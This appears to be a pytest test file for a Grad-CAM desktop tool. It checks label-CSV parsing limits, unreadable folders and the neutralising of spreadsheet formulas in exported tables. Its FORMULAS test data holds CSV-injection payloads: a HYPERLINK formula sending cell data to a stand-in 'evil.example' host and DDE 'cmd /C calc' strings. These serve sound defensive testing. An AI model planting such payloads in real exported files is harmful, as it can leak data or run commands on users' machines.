"""Issue 18, hostile labels and tables: long labels CSVs, formula names, line separators, unreadable folders.

The expected cells are written out by hand from the OWASP rule (a text cell starting with
``= + - @``, a tab or a carriage return gets a leading ``'``; a plain number stays a number) and
the written files are parsed back with the csv module, never with the code under test. Memory is
measured in a child process (its peak resident size, VmHWM), comparing two file lengths.
"""

from __future__ import annotations

import csv
import errno
import math
import os
import subprocess
import sys
from pathlib import Path

import cv2
import numpy as np
import pytest

from gradcam_desktop.core import demo_data, files, labels
from gradcam_desktop.core.batch import BatchRow, write_csv
from gradcam_desktop.core.errors import LabelError, OutputError
from gradcam_desktop.core.gradcam import GradCam
from gradcam_desktop.core.models import load_model
from gradcam_desktop.core.triage import (
    TRIAGE_FIELDS,
    TriageRow,
    accuracy,
    read_labels,
    triage,
    write_confusion_csv,
    write_triage_csv,
)
from gradcam_desktop.core.types import CSV_FIELDS

NAMES = ["circle", "square", "triangle", "star"]
#: Class names a hostile labels sidecar may hold, and the cell each must become (by hand, OWASP).
FORMULAS = {
    '=HYPERLINK("http://evil.example/?d="&A1,"click")': '\'=HYPERLINK("http://evil.example/?d="&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0": "'@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0": "'+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0": "'-2+3+cmd|' /C calc'!A0",
    "\t=1+1": "'\t=1+1",
    "\r=1+1": "'\r=1+1",
}
#: Left alone: not a formula start, or a plain number (a spreadsheet reads it as that number).
HARMLESS = {"a=b": "a=b", "x@y": "x@y", "-0.5": "-0.5", "-1": "-1", "+3": "+3", "-1.5e-05": "-1.5e-05"}


def read_csv(path: Path) -> list[list[str]]:
    with open(path, newline="", encoding="utf-8") as handle:
        return list(csv.reader(handle))


def touch(path: Path) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(b"")
    return path


def draw(path: Path, cls: int, seed: int) -> Path:
    rgb, _, _ = demo_data.make_sample(np.random.default_rng(seed), (96, 112), cls)
    path.parent.mkdir(parents=True, exist_ok=True)
    assert cv2.imwrite(str(path), np.ascontiguousarray(rgb[:, :, ::-1]))
    return path


# -- a long labels CSV ---------------------------------------------------------------------------
CHILD = r"""
import sys
from gradcam_desktop.core.labels import read_labels

def peak_kb():
    with open("/proc/self/status") as status:
        return next(int(line.split()[1]) for line in status if line.startswith("VmHWM:"))

found = read_labels(sys.argv[1], ["circle", "square", "triangle", "star"], limit=10**9)
print(len(found.pictures), found.skipped["unicorn"], peak_kb())
"""


@pytest.mark.skipif(not Path("/proc/self/status").is_file(), reason="VmHWM is Linux's")
def test_a_long_csv_is_read_as_a_stream(tmp_path):
    """Peak memory does not grow with the rows read: 1.2 million more rows (17 MB of text) cost
    less than 8 MB. Holding the text (what read_text + splitlines did) would cost 17 MB for the
    text and ~75 MB for its lines as strings. Rows with a label of no class keep nothing but a count."""
    peaks = {}
    for rows in (300_000, 1_500_000):
        table = tmp_path / f"labels_{rows}.csv"
        with open(table, "w", encoding="utf-8") as handle:
            handle.write("path,label\npics/a.png,circle\n")
            handle.write("pics/x.png,unicorn\n" * rows)
        done = subprocess.run([sys.executable, "-c", CHILD, str(table)], capture_output=True, text=True,
                              timeout=600, check=False)
        assert done.returncode == 0, done.stderr[-2000:]
        pictures, skipped, peaks[rows] = map(int, done.stdout.split())
        assert (pictures, skipped) == (1, rows)
    assert peaks[1_500_000] - peaks[300_000] < 8 * 1024, peaks


def test_more_rows_than_the_limit_are_refused_before_the_rest_is_read(tmp_path):
    """The file past the limit is never read: what follows (not UTF-8, not path,label) would be
    another error. (The text decoder reads 8 KB ahead: 10,000 more rows, 200 KB, lie in between.)"""
    table = tmp_path / "big.csv"
    with open(table, "wb") as handle:
        handle.write(b"".join(b"pics/%05d.png,circle\n" % i for i in range(11_000)))
        handle.write(b"\xff\xfe not UTF-8\n" + b"no comma here\n" * 10_000)
    with pytest.raises(LabelError) as caught:
        read_labels(table, NAMES, limit=1000)
    message = str(caught.value)
    assert "more than 1,000 pictures" in message and "split" in message and "\n" not in message
    assert "UTF-8" not in message and "line" not in message
    with pytest.raises(LabelError, match="not UTF-8"):  # what reading on would have met
        read_labels(table, NAMES, limit=10**6)


def test_the_default_limit_is_max_pictures_for_csvs_and_folders(tmp_path, monkeypatch):
    assert labels.MAX_PICTURES == 1_000_000
    monkeypatch.setattr(labels, "MAX_PICTURES", 5)
    table = tmp_path / "labels.csv"
    table.write_text("".join(f"p{i}.png,{NAMES[i % 4]}\n" for i in range(5)), encoding="utf-8")
    assert len(read_labels(table, NAMES).pictures) == 5  # at the limit: read
    table.write_text("".join(f"p{i}.png,unicorn\n" for i in range(6)), encoding="utf-8")
    with pytest.raises(LabelError, match="more than 5 pictures"):
        read_labels(table, NAMES)  # unknown labels count too: each is a row read
    for name in ("circle", "square"):
        for i in range(3):
            touch(tmp_path / "folder" / name / f"{i}.png")
    with pytest.raises(LabelError, match="more than 5 pictures") as caught:
        read_labels(tmp_path / "folder", NAMES)
    assert "\n" not in str(caught.value)


def test_a_line_without_an_end_is_refused_after_max_line_characters(tmp_path):
    table = tmp_path / "one_line.csv"
    table.write_text("a.png,circle\n" + "x" * (labels.MAX_LINE * 16), encoding="utf-8")
    with pytest.raises(LabelError, match=f"line 2 is longer than {labels.MAX_LINE:,} characters") as caught:
        read_labels(table, NAMES)
    assert "\n" not in str(caught.value)


@pytest.mark.parametrize("content, words", [
    (b"a.png,circle\n\xff\xfeb.png,square\n", "not UTF-8"),
    (b'a.png,circle\n"' + (b"x" * 60_000 + b"\n") * 3 + b'",circle\n', "field larger than field limit"),
    (b"a.png,circle\nb.png\n", "line 2: expected path,label"),
])
def test_broken_csvs_are_one_line(tmp_path, content, words):
    table = tmp_path / "broken.csv"
    table.write_bytes(content)
    with pytest.raises(LabelError, match=words) as caught:
        read_labels(table, NAMES)
    assert "\n" not in str(caught.value) and len(str(caught.value)) < 400


def test_the_warning_stays_one_short_line_whatever_the_labels(tmp_path):
    table = tmp_path / "labels.csv"
    rows = ["a.png,circle", '"b.png","a\nnewline"'] + [f"c{i}.png,label{i:04d}" for i in range(1000)]
    table.write_text("\n".join(rows) + "\n", encoding="utf-8")
    found = read_labels(table, NAMES)
    assert found.skipped_count == 1001 and len(found.skipped) == 1001
    warning = found.warning
    assert "\n" not in warning and "'a\\nnewline' (1)" in warning  # first in order, escaped
    assert "and 981 more names" in warning and "label0018" in warning and "label0019" not in warning
    assert len(warning) < 1000


# -- line separators in paths ----------------------------------------------------------------------
SEPARATORS = ["\u2028", "\u2029", "\x85", "\x0b", "\x0c", "\x1c"]  # all that str.splitlines splits on, but \n \r


def test_paths_with_unicode_line_separators_are_one_row_each(tmp_path):
    names = [f"pic{sep}{i}.png" for i, sep in enumerate(SEPARATORS)]
    table = tmp_path / "labels.csv"
    table.write_text("path,label\n" + "".join(f"{name},{NAMES[i % 4]}\n" for i, name in enumerate(names)),
                     encoding="utf-8")
    found = read_labels(table, NAMES)
    assert [(p.path, p.true_index) for p in found.pictures] == [
        (str(tmp_path / name), i % 4) for i, name in enumerate(names)]


# -- unreadable class folders ------------------------------------------------------------------------
def test_an_unreadable_class_folder_is_one_entry_with_its_error(tmp_path, monkeypatch):
    for name in ("circle", "square", "dogs"):
        touch(tmp_path / name / "a.png")
    (tmp_path / "star").symlink_to(tmp_path / "unmounted" / "star")  # a link to a folder that is not there
    real = os.scandir
    denied = {str(tmp_path / "square"), str(tmp_path / "dogs")}

    def scandir(path="."):
        if os.fspath(path) in denied:
            raise PermissionError(errno.EACCES, "Permission denied", os.fspath(path))
        return real(path)

    monkeypatch.setattr(os, "scandir", scandir)  # tests run as root: chmod 000 would not stop a read
    found = read_labels(tmp_path, NAMES)
    assert [(Path(p.path).name, p.true_index, bool(p.error)) for p in found.pictures] == [
        ("a.png", 0, False), ("square", 1, True), ("star", 3, True)]  # "dogs" names no class: skipped anyway
    square, star = found.unreadable
    assert square.error.startswith(f"Class folder {tmp_path / 'square'} cannot be read (permission denied)")
    assert "unmounted" in star.error and "does not exist" in star.error
    assert all("\n" not in p.error and "again" in p.error for p in found.unreadable)
    (tmp_path / "circle" / "a.png").unlink()
    with pytest.raises(LabelError, match="square cannot be read"):
        read_labels(tmp_path, NAMES)  # nothing readable left: no triage at all


@pytest.fixture(scope="module")
def engine():
    return GradCam(load_model("demo"))


def test_unreadable_entries_are_error_rows_and_count_as_wrong(engine, tmp_path):
    good = [draw(tmp_path / "pics" / f"{name}.png", cls, 7 + cls) for cls, name in enumerate(demo_data.CLASS_NAMES)]
    found = labels.LabelSet(pictures=[
        labels.LabelledPicture(str(good[0]), 0),
        labels.LabelledPicture(str(tmp_path / "square"), 1, "Class folder square cannot be read (permission denied)."),
        labels.LabelledPicture(str(tmp_path / "a\0b.png"), 2),  # from a CSV: no file system takes it
        labels.LabelledPicture(str(tmp_path / ("x" * 5000 + ".png")), 3),
        labels.LabelledPicture(str(good[3]), 3),
    ])
    rows = list(triage(engine, found.pictures, batch=2))
    assert [bool(row.error) for row in rows] == [False, True, True, True, False]
    assert rows[1].error == found.pictures[1].error
    assert "a\\x00b.png" in rows[2].error and "\n" not in rows[2].error and "\n" not in rows[3].error
    right = sum(row.correct for row in rows)
    assert accuracy(rows) == right / 5 and accuracy(rows, read_only=True) == right / 2
    assert math.isnan(accuracy(rows[1:4]))


# -- the tables: formula cells, quoting, numbers --------------------------------------------------------
def _row(image: str, true: int, predicted: int | None, names: list[str], margin: float = -0.5) -> TriageRow:
    if predicted is None:
        nan = float("nan")
        return TriageRow(image, true, names[true], None, "", nan, nan, False, nan, f"{image} is broken")
    return TriageRow(image, true, names[true], predicted, names[predicted], 0.75, 0.25, predicted == true, margin)


def test_triage_and_confusion_tables_neutralise_formulas_and_keep_numbers(tmp_path):
    hostile = list(FORMULAS) + list(HARMLESS) + ["two\nlines, \"quoted\"", "sep\u2028arated"]
    expected = {**FORMULAS, **HARMLESS, "two\nlines, \"quoted\"": "two\nlines, \"quoted\"",
                "sep\u2028arated": "sep\u2028arated"}
    rows = [_row(f"@img{i}.png" if i % 2 else f"-img{i}.png", i, (i + 1) % len(hostile), hostile, -0.5 + i)
            for i in range(len(hostile))]
    rows.append(_row("=cmd|' /C calc'!A0.png", 0, None, hostile))
    write_triage_csv(tmp_path / "triage.csv", rows)
    table = read_csv(tmp_path / "triage.csv")
    assert table[0] == TRIAGE_FIELDS and len(table) == len(rows) + 1  # every record whole, newlines or not
    for cells, row in zip(table[1:], rows):
        written = dict(zip(TRIAGE_FIELDS, cells))
        assert written["image"] == "'" + row.image
        assert written["true_name"] == expected[row.true_name]
        if row.error:
            assert written["predicted_name"] == "" and written["margin"] == "" and written["error"] == "'" + row.error
        else:
            assert written["predicted_name"] == expected[row.predicted_name]
            assert float(written["margin"]) == pytest.approx(row.margin)  # a number, negative or not
            assert written["margin"] == f"{row.margin:.6g}"
    matrix = np.arange(len(hostile) ** 2).reshape(len(hostile), len(hostile))
    write_confusion_csv(tmp_path / "confusion.csv", matrix, hostile)
    table = read_csv(tmp_path / "confusion.csv")
    assert table[0] == ["true \\ predicted", *(expected[name] for name in hostile)]
    assert [line[0] for line in table[1:]] == [expected[name] for name in hostile]
    assert [[int(c) for c in line[1:]] for line in table[1:]] == matrix.tolist()


def test_line_breaks_stay_inside_one_quoted_cell(tmp_path):
    names = ["two\nlines", "carriage\rreturn", "sep\u2028arated", "para\u2029graph", "next\x85line"]
    rows = [_row(f"/pics/{i}.png", i, i, names, 0.5) for i in range(len(names))]
    write_triage_csv(tmp_path / "triage.csv", rows)
    text = (tmp_path / "triage.csv").read_bytes().decode("utf-8")
    for name in names:
        assert f'"{name}"' in text  # quoted, so that no reader splits the record
    assert [line[2] for line in read_csv(tmp_path / "triage.csv")[1:]] == names
    # What a splitlines-reader sees: a record per picture plus the header; none split.
    assert text.count("\n") == len(names) + 1 + 2  # "two\nlines" (true and predicted name): the \n in cells


def test_results_csv_neutralises_formulas_and_keeps_numbers(tmp_path):
    rows = [{"image": "=1+1.png", "predicted_index": 0, "predicted_name": name, "probability": "0.500000",
             "explained_name": name, "explained_score": "-1.25", "versus_name": "@x", "error": ""}
            for name in FORMULAS]
    rows.append(BatchRow(source="+broken.png", error="-not an image"))
    write_csv(tmp_path / "results.csv", rows, ["deletion_auc"])
    table = read_csv(tmp_path / "results.csv")
    header = [*CSV_FIELDS[:-1], "deletion_auc", "error"]
    assert table[0] == header
    written = [dict(zip(header, line)) for line in table[1:]]
    assert [w["predicted_name"] for w in written[:-1]] == list(FORMULAS.values())
    assert [w["explained_name"] for w in written[:-1]] == list(FORMULAS.values())
    assert {w["image"] for w in written[:-1]} == {"'=1+1.png"} and {w["versus_name"] for w in written[:-1]} == {"'@x"}
    assert {w["explained_score"] for w in written[:-1]} == {"-1.25"}  # a number stays a number
    assert (written[-1]["image"], written[-1]["error"]) == ("'+broken.png", "'-not an image")


def test_a_failed_table_write_leaves_the_old_file_and_no_temp(tmp_path):
    target = tmp_path / "triage.csv"
    target.write_text("the previous table\n", encoding="utf-8")

    def rows_then(failure):
        yield _row("/pics/a.png", 0, 0, NAMES)
        raise failure

    with pytest.raises(OutputError, match="the disk is full") as caught:
        write_triage_csv(target, rows_then(OSError(errno.ENOSPC, "No space left on device")))
    assert "\n" not in str(caught.value)
    with pytest.raises(RuntimeError, match="a bug"):  # not a disk problem: passes through as it is
        write_triage_csv(target, rows_then(RuntimeError("a bug")))
    assert target.read_text(encoding="utf-8") == "the previous table\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["triage.csv"]


def test_undecodable_file_names_do_not_fail_the_table(tmp_path):
    name = os.fsdecode(b"/pics/caf\xe9.png")  # a Latin-1 file name on a UTF-8 system
    write_triage_csv(tmp_path / "triage.csv", [_row(name, 0, 0, NAMES, 0.5)])
    assert read_csv(tmp_path / "triage.csv")[1][0] == "/pics/caf\\udce9.png"


def test_spreadsheet_safe_leaves_non_text_alone():
    assert [files.spreadsheet_safe(v) for v in (-0.5, -1, None, True)] == [-0.5, -1, None, True]
    assert [files.spreadsheet_safe(v) for v in FORMULAS] == list(FORMULAS.values())
    assert [files.spreadsheet_safe(v) for v in HARMLESS] == list(HARMLESS.values())


def test_a_path_the_file_system_refuses_is_an_error_row_not_a_crash(engine, tmp_path, monkeypatch):
    """Whatever images.load_image lets through (an OSError, a ValueError), triage makes it an error row."""
    from gradcam_desktop.core import triage as triage_module

    good = draw(tmp_path / "good.png", 1, 3)
    refused = str(tmp_path / "refused.png")
    real = triage_module.prepare

    def prepare(e, path):
        if path == refused:
            raise OSError(errno.ENAMETOOLONG, "File name too long", path)
        return real(e, path)

    monkeypatch.setattr(triage_module, "prepare", prepare)
    rows = list(triage(engine, [labels.LabelledPicture(refused, 0), labels.LabelledPicture(str(good), 1)]))
    assert rows[0].error == f"{refused} cannot be read: file name too long. Check the path in the labels."
    assert not rows[1].error and rows[1].predicted_index is not None
